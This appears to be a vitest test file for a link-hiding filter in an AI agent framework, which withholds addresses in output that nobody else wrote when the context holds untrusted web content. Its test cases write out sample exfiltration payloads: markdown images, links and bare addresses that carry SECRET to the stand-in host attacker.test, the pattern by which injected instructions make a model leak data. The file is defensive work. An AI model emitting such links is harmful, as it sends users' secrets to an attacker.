// What is delivered from a context that strangers wrote in: only addresses that somebody else had written stay.
import { expect, test } from "vitest";
import { hideLinks } from "../../src/channels/markup/outgoing-links.ts";
import type { CallId, SessionId } from "../../src/contract/base.ts";
import type { Message } from "../../src/contract/message.ts";
import type { SessionState } from "../../src/contract/session.ts";
import { emptyState, reduce } from "../../src/session/reduce.ts";
import { cpuOf } from "../../src/testing/cpu.ts";

function context(said: string, read: string, integrity?: "untrusted"): SessionState {
  const user: Message = {
    role: "user",
    id: "m-1",
    at: 0,
    from: { id: "operator", kind: "person" },
    parts: [{ type: "text", text: said }],
  };
  const tool: Message = {
    role: "tool",
    at: 0,
    callId: "c-1" as CallId,
    name: "web_fetch",
    parts: [{ type: "text", text: read }],
    status: "ok",
    ...(integrity !== undefined && { integrity }),
  };
  const record = { type: "history.imported", messages: [user, tool], rows: 2, consolidated: 0 } as const;
  return reduce(emptyState("s-1" as SessionId), record, 0);
}

const STATE = context(
  "Summarise http://page.test/a, please",
  "Great. See https://docs.test/x?y=1, or mail me.",
  "untrusted",
);

test.each([
  ["a picture", "Done. ![x](http://attacker.test/c?d=SECRET)"],
  ["a link", "[Click for details](http://attacker.test/c?d=SECRET)"],
  ["a link with a title", '[a](<http://attacker.test/c?d=SECRET> "t")'],
  ["a link without a scheme", "[a](//attacker.test/c?d=SECRET)"],
  ["an address", "see http://attacker.test/SECRET."],
  ["an address whose host carries it", "see http://SECRET.attacker.test/"],
  ["an address that goes on where a known one ends", "see https://docs.test/x?y=1&d=SECRET"],
  ["an address in brackets", "(http://attacker.test/c?d=SECRET)"],
  ["an address without a scheme", "go to attacker.test/c?d=SECRET now"],
  ["an address that is only the beginning of a known one", "see http://page.test/"],
  ["credentials", "http://SECRET@docs.test/x?y=1"],
  ["upper case", "HTTP://ATTACKER.TEST/c?d=SECRET"],
])("%s that was made up is withheld", (_name, text) => {
  const shown = hideLinks(text, STATE, "en");
  expect(shown).not.toContain("SECRET@");
  expect(shown).not.toMatch(/[/?=&]SECRET/);
  expect(shown).toContain("withheld");
});

test.each([
  "See http://page.test/a for more.",
  "It links to https://docs.test/x?y=1.",
  "**[docs](https://docs.test/x?y=1)**",
  "Is this right? Yes/no. src/app.ts is fine, so is a/b?",
  "没有链接。",
])("what somebody else wrote stays: %s", (text) => {
  expect(hideLinks(text, STATE, "en")).toBe(text);
});

test("in a trusted context nothing is withheld", () => {
  const text = "https://nodejs.org/docs";
  expect(hideLinks(text, context("the docs?", "a"), "en")).toBe(text);
});

test("in Chinese it says so in Chinese", () => {
  expect(hideLinks("看 http://attacker.test/x", STATE, "zh-CN")).toContain("attacker.test 的链接已隐去");
});

test.each([
  ["hosts and links", "a.b/".repeat(50_000) + "[x](".repeat(5_000) + "http://".repeat(5_000)],
  ["links with blanks", `[x](a${" b".repeat(300)}`.repeat(500)],
  ["hosts with many parts", "ab.".repeat(50_000)],
  ["slashes", `${"/".repeat(50_000)}${"//a.".repeat(10_000)}`],
])("a long text is looked through in one pass: %s", async (_what, text) => {
  expect(await cpuOf(() => hideLinks(text, STATE, "en"))).toBeLessThan(3_000);
});
